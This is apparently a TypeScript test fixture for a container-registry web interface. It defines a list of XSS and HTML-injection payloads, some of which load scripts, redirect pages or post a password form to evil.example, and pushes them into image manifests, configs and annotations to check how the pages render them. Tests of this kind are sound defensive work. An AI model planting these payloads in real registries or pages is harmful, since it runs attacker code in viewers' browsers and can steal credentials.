// What somebody pushes who wants it to run in the browser of whoever looks at it.

import { mediaTypes } from '#shared/oci/media-types.ts';
import { pushAll, sendAll } from './calls.ts';
import { contentOf, descriptorOf, imageIndex, imageManifest, randomBlob } from './manifests.ts';

/** Each sets `window.ran`, asks or loads something, where it is taken for more than text. */
export const hostileTexts: readonly string[] = [
  '<script>alert(1)</script>',
  '<script src="https://evil.example/x.js"></script>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '"><img src=https://evil.example/x.png onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</bdi></dd></dl></main><script>alert(1)</script>',
  '--><script>alert(1)</script><!--',
  ']]><script>alert(1)</script>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>*{display:none}</style>',
  '<form action=https://evil.example/><input name=password autofocus onfocus=alert(1)>',
  '<a href="javascript:alert(1)">click</a>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '" autofocus onfocus=alert(1) x="',
  "' style=position:fixed;inset:0 x='",
  '<details open ontoggle=alert(1)>',
  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '{{constructor.constructor("alert(1)")()}}',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u202Egnp.tpircs\u2066<script>alert(1)</script>',
  '\u0000<script>alert(1)</script>\u001b[31m\u2028\ud800',
];

/**
 * Pushes such texts wherever a manifest or a config may hold text, and everything that has a page.
 * @returns the paths of those pages
 */
export async function pushHostile(url: string, name: string): Promise<string[]> {
  const annotations = Object.fromEntries(
    hostileTexts.flatMap((text, at) => [
      [text, 'a value'],
      [`key-${at}`, text],
    ]),
  );
  // A platform's parts are ASCII that is printed, and short.
  const parts = hostileTexts.filter((text) => /^[\x20-\x7e]{1,100}$/.test(text));
  const images = parts.map((text) =>
    imageManifest({
      config: contentOf(
        JSON.stringify({
          ...{ os: text, architecture: text, variant: text, author: text, created: text },
          config: { Labels: { [text]: text }, Env: [text] },
          history: [{ created_by: text }],
        }),
        mediaTypes.ociConfig,
      ),
      layers: [randomBlob()],
      fields: { annotations: { [text]: text } },
    }),
  );
  const index = imageIndex(images, {
    fields: {
      annotations,
      manifests: images.map((image, at) =>
        descriptorOf(image, {
          platform: { os: parts[at], architecture: parts[at], variant: parts[at] },
          annotations: { 'vnd.docker.reference.type': hostileTexts[at] },
        }),
      ),
    },
  });
  const texts = imageManifest({ fields: { annotations } });
  await sendAll(url, [
    ...pushAll(name, texts, 'texts'),
    ...pushAll(name, index, 'index'),
    ...images.flatMap((image, at) => pushAll(name, image, `javascript_alert-${at}`)),
  ]);
  return [
    ...[`/${name}`, `/${name}?manifests`, `/${name}:texts`, `/${name}:index`],
    ...images.map(({ digest }) => `/${name}@${digest}`),
  ];
}
